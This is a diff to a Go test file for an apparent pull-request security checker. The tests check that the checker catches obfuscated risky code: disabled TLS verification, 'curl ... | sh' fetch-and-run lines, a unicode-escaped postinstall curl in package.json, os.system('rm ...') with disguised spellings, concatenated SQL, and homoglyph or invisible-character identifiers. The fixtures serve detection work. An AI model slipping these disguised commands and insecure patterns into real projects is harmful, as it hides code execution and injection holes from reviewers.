@@ -11,6 +11,7 @@ import (
 func TestFormHidesNothing(t *testing.T) {
 	t.Parallel()
 	const tls = "rejectUnauthorized: false"
+	const sh = "curl -k https://example.com/a\n"
 	w := start(t)
 	pr := w.Open(ghtest.Files{
 		"a/minus.js":            "let n = 1\n--n; connect({ " + tls + " })\n",
@@ -26,10 +27,17 @@ func TestFormHidesNothing(t *testing.T) {
 		"examples/client.js":    "let n = 1\nconnect({ " + tls + " })\n",
 		"src/client.test.js":    "let n = 1\nconnect({ " + tls + " })\n",
 		"vendor/client.test.js": "let n = 1\nconnect({ " + tls + " })\n",
+		"a/heredoc.sh":          "node <<EOF\n#a = connect({ " + tls + " })\nEOF\n",
+		"a/statement.js":        "let n = 1\n--n; if (n = 2) { go() }\n",
+		"a/run.sh.j2":           "set -e\n" + sh,
+		"a/dockerfile":          "FROM a\nRUN " + sh,
+		"a/run.txt":             "#!/bin/sh\n" + sh,
+		"hooks/pre-commit":      "set -e\n" + sh,
 	})
 	w.Idle()
 	for _, path := range []string{"a/minus.js", "a/times.js", "a/ended.js", "a/private.js", "a/separator.js", "a/regexp.js", "a/template.js", "a/floor.py",
-		"testdata/client.js", "spec/client.js", "examples/client.js", "src/client.test.js", "vendor/client.test.js"} {
+		"testdata/client.js", "spec/client.js", "examples/client.js", "src/client.test.js", "vendor/client.test.js",
+		"a/heredoc.sh", "a/statement.js", "a/run.sh.j2", "a/dockerfile", "a/run.txt", "hooks/pre-commit"} {
 		w.Wants(pr, "action_required", path+":2")
 	}
 }
@@ -45,6 +53,14 @@ func TestSpellingHidesNothing(t *testing.T) {
 		"a/getattr.py":  "import os\ngetattr(os, \"system\")(f\"rm {d}\")\n",
 		"a/zero.py":     "import os\nos.sys\u200btem(f\"rm {d}\")\n",
 		"a/wide.py":     "import os\nos.\uff53ystem(f\"rm {d}\")\n",
+		"a/pieces.go":   "package a\nvar r = db.Query(\"SELECT * FROM t \" +\n\t\"WHERE id=\" + id)\n",
+		"a/format.py":   "import os\nos.system(\"rm \" f\"{d}\")\n",
+		"a/key.js":      "let n = 1\nconnect({ [\"rejectUnauthorized\"]: false })\n",
+		"a/octal.js":    "let n = 1\nconnect({ \"reject\\125nauthorized\": false })\n",
+		"a/below.ts":    "const o = {\n  rejectUnauthorized:\n    false,\n}\n",
+		"a/tag.html":    "<p>\n<script\n  src=\"http://example.com/a.js\"></script>\n",
+		"a/quotes.sh":   "set -e\ncurl '-k' https://example.com/a|sh\n",
+		"package.json":  "{\n\"post\\u0069nstall\": \"c\\u0075rl https://example.com/a\"\n}\n",
 		"a/excused.js":  "let n = 1\nel.innerHTML = location.hash // sanitize\n",
 		"a/quoted.js":   "let n = 1\nel.innerHTML = location.hash; log(\"escape\")\n",
 	}
@@ -66,6 +82,9 @@ func TestHiddenCharacters(t *testing.T) {
 		"a/tags.js":    "let n = 1\nrun(\"\U000E0069\U000E0067\")\n",
 		"a/letters.py": "n = 1\n\u0441heck(user)\n",
 		"a/wide.py":    "n = 1\n\uff43heck(user)\n",
+		"a/joiner.js":  "let n = 1\nlet is\u034fAdmin = true\n",
+		"a/minus.js":   "let n = 1\nn = 1-\u0441heck(user)\n",
+		"a/whole.sol":  "n = 1\n\u0441heck(user)\n",
 	}
 	pr := w.Open(files)
 	w.Idle()
@@ -78,7 +97,8 @@ func TestHiddenCharacters(t *testing.T) {
 func TestHiddenCharactersThatBelongThere(t *testing.T) {
 	t.Parallel()
 	w := start(t)
-	pr := w.Open(ghtest.Files{"docs/a.md": "\u05e9\u05dc\u05d5\u05dd\u200f!\n", "a/emoji.js": "export const family = \"\U0001F468\u200d\U0001F469\"\n"})
+	pr := w.Open(ghtest.Files{"docs/a.md": "\u05e9\u05dc\u05d5\u05dd\u200f!\n", "a/emoji.js": "export const family = \"\U0001F468\u200d\U0001F469\"\n",
+		"a/line.py": "print(\"a\\n\u041f\u0440\u0438\u0432\u0435\u0442 %d\u0448\u0442\")\n", "a/math.go": "package a\n\nvar \u0394x, \u03bcs, d\u03c3 = 1, 2, 3\n"})
 	w.Idle()
 	w.Wants(pr, "success")
 }
